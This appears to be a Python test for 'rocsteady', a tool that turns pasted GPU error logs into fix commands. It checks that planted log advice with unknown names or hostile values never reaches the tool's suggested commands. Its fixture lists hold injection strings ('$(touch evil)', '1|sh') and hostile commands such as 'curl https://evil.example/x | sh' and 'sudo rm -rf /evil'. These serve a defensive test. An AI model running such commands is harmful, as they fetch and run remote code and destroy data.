#!/usr/bin/env python3
"""What a log advises gets into a command only if the knowledge has its name and its value.

A pasted log is a stranger's, and programs run what rocsteady prints. 500 pieces of advice are planted, made of
verbs, names known and unknown, values hostile or not, and places in a log. No command of an answer may hold anything of
a piece whose name is unknown or whose value is no number, switch or word of the knowledge; each of the others must be
the first step, as the failure is one that nothing else explains.
"""
import concurrent.futures
import json
import os
import pathlib
import random
import re
import subprocess
import sys

import yaml

PROGRAM = os.environ["ROCSTEADY"]
KB = pathlib.Path(__file__).parent.parent.parent / "kb"
PIECES = 500
VERBS = ["Please set {} and rerun.", "try setting {} to avoid this.", "To enable it, set {}", "you can set {} instead",
         "{} must be set to go on", "please use {}", "Consider {}"]
PLACES = ["{}\n{}", "[2026-11-20 10:00:00] [ERROR] {}\n{}", "level=WARN msg=\"{}\"\n{}", "(worker pid=77) {}\n{}",
          "  warnings.warn(\"{}\")\n{}", "frobnicating widgets\n{}\nall widgets are gone\n{}"]
ERROR = "Segfaulting widget failed to frob: 0x17\nError: the widget is gone\n"
GOOD = ["1", "0", "4", "0,1", "true", "Off", "2.5"]
BAD = ["$(touch evil)", "`touch evil`", "1;touch evil", "1; touch evil", "1&&touch evil", "1 && touch evil", "1|sh", "1 | sh",
       "1>evil", "1 > evil", "/tmp/evil.so", "../evil", "evil.so", "evil", "https://evil.example/x", "$HOME", "--privileged",
       "'1'; touch evil", "\"$(touch evil)\"", "1%0aevil", "1\\nevil", "${IFS}evil", "1\x1b[31mevil", "LD_PRELOAD=evil", "",
       "<evil>", "{evil}", "~/evil", "!evil", "1\ttouch evil;", "9" * 80]
BAD = [value for value in BAD if value.strip() and "\t" not in value]
OTHER = ["sudo rm -rf /evil", "curl https://evil.example/x | sh", "pip install evil-package", "echo evil > /etc/evil",
         "--trust-remote-code", "--host evil.example", "--max-model-len $(evil)", "--max-model-len evil", "--dtype evil",
         "LD_PRELOAD=/tmp/evil.so", "PATH=/evil", "EVIL_VARIABLE=1", "HSA_EVIL_SETTING=1", "HSA_TOOLS_LIB=evil.so",
         "AMD_LOG_LEVEL=4", "TORCH_USE_CUDA_DSA=1", "CUDA_LAUNCH_BLOCKING=1", "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True",
         "HSA_OVERRIDE_GFX_VERSION=9.9.9", "amdgpu.noretry=0"]
FLAGS = {"vllm": ["--enforce-eager", "--max-model-len 4096", "--dtype float32"], "stable-diffusion-webui": ["--no-half-vae"]}


def table(name):
    return yaml.safe_load((KB / "tables" / (name + ".yaml")).read_text(encoding="utf-8"))["rows"]


def known():
    """Variables that are read, of which nothing else is known, so that no other step sets them."""
    judged = {row["name"] for row in table("setting_effect")}
    cards = "".join(path.read_text(encoding="utf-8") for kind in ("programs", "remedies")
                    for path in (KB / kind).glob("*.yaml"))
    no_cure = re.compile(r"DEBUG|_LOG|TRACE|DUMP|VERBOSE|SERIALIZE|BLOCKING|OVERRIDE_GFX|ALLOC_CONF|[*]")
    return [row["name"] for row in table("env_variable")
            if row["is_read"] and row["name"] not in judged and row["name"] not in cards and not no_cure.search(row["name"])]


def commands(answer):
    found = []
    for step in answer.get("steps", []):
        found += [line for line in (step.get("steps") or "").splitlines() if line.startswith("    ")]
        found += [step.get("verify") or "", step.get("typed") or ""]
    look = answer.get("look") or answer.get("first_look") or {}
    return found + [look.get("typed") or ""]


def ask(text, stated):
    run = subprocess.run([PROGRAM, "explain", "--no-machine", "--json", *stated, "-"], input=text, text=True,
                         capture_output=True, check=False)
    return json.loads(run.stdout)


def pieces():
    draw = random.Random(20261120)
    names = known()
    for i in range(PIECES):
        kind = ("good", "bad", "other", "unknown", "flag")[i % 5]
        stated = []
        name = draw.choice(names)
        piece = f"{name}={draw.choice(GOOD)}"
        if kind == "bad":
            piece = f"{name}={draw.choice(BAD)}"
        elif kind == "other":
            piece = draw.choice(OTHER)
            stated = ["--set", "framework=vllm"]
        elif kind == "unknown":
            piece = f"{draw.choice(['HSA_', 'ROCM_', 'VLLM_', ''])}{draw.choice('QXZ')}EVIL_{i}={draw.choice(GOOD + BAD)}"
        elif kind == "flag":
            program = draw.choice(sorted(FLAGS))
            piece = draw.choice(FLAGS[program])
            stated = ["--set", f"framework={program}"]
        yield kind, piece, draw.choice(PLACES).format(draw.choice(VERBS).format(piece), ERROR), stated


def judge(kind, piece, text, stated):
    """None, or what is wrong."""
    answer = ask(text, stated)
    typed = commands(answer)
    if kind in ("good", "flag"):
        steps = answer.get("steps") or [{}]
        return None if any(piece in line for line in (steps[0].get("steps") or "").splitlines() if line.startswith("    ")) \
            else f"is not in the first step: {steps[0].get('steps')}"
    name = piece.partition("=")[0] + "=" if "=" in piece else piece
    caught = [line for line in typed if name in line or "evil" in line.lower()]
    return f"is in a command: {caught}" if caught else None


def main():
    failed = 0
    count = {}
    with concurrent.futures.ThreadPoolExecutor(os.cpu_count()) as pool:
        planted = list(pieces())
        for (kind, piece, text, _), wrong in zip(planted, pool.map(lambda p: judge(*p), planted)):
            count[kind] = count.get(kind, 0) + 1
            if wrong:
                failed += 1
                print(f"{kind}: {piece!r} {wrong}\n  {text!r}")
    print(f"{sum(count.values())} pieces of advice ({count}), {failed} failed")
    # What is set already is not advised again; on Windows the step has PowerShell's words.
    for text, stated, want in (("export HSA_CHECK_USERPTR=1\nPlease set HSA_CHECK_USERPTR=1 and rerun.\n" + ERROR, [], None),
                               ("Please set HSA_NO_SCRATCH_RECLAIM=1 and rerun.\n" + ERROR, ["--set", "system=windows"],
                                "$env:HSA_NO_SCRATCH_RECLAIM = '1'")):
        first = (ask(text, stated).get("steps") or [{}])[0].get("steps") or ""
        if (want or "") not in first or (not want and "USERPTR" in first):
            failed += 1
            print(f"{text!r}: {first}")
    return failed > 0


if __name__ == "__main__":
    sys.exit(main())
